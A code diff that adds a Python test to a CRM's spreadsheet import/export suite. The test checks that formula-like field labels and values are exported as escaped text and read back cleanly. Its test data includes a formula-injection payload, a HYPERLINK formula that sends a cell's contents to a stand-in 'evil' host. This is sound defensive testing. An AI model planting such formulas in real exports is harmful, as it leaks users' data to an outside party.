@@ -617,3 +617,28 @@ def test_a_batch_reads_its_duplicates_once_and_writes_records_and_log_set_based(
     entries = [e for e in crm.leads.operation_log(org.manager, crm.leads.list(
         org.manager, {"keyword": "线索20"}).items[0].id)]
     assert [(e.action, e.note) for e in entries] == [("create", IMPORT_NOTE)]
+
+
+EVIL_LABEL = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+def test_a_label_a_spreadsheet_would_run_is_written_as_text_and_read_back(org: Org) -> None:
+    crm = org.crm
+    crm.fields.define(org.admin, "customer", {"key": "evil", "label_zh": EVIL_LABEL,
+                                              "label_en": "@SUM(1)", "type": "text"})
+    crm.customers.create(org.admin, {"name": "甲", "custom": {"evil": "-x"}})
+    rows = exported(org, org.admin, fields=["name", "evil"])
+    assert rows == [["客户名称", "'" + EVIL_LABEL], ["甲", "'-x"]]
+    template = io.BytesIO()
+    crm.io.template(org.admin, "customer", template, language="en")
+    assert "'@SUM(1)" in read_csv(template.getvalue())[0]
+    # what was written reads back: the apostrophe is no part of the header
+    result = imported(org, org.admin, ["客户名称", "'" + EVIL_LABEL], ["乙", "'-y"])
+    assert (result.created, result.errors) == (1, ())
+    [second] = [c for c in crm.customers.list(org.admin).items if c.name == "乙"]
+    assert second.custom == {"evil": "-y"}
+    book = io.BytesIO()
+    crm.io.export(org.admin, "customer", book, format="xlsx", fields=["evil"])
+    sheet = openpyxl.load_workbook(io.BytesIO(book.getvalue())).active
+    assert sheet is not None
+    assert sheet["A1"].value == "'" + EVIL_LABEL and sheet["A1"].data_type == "s"
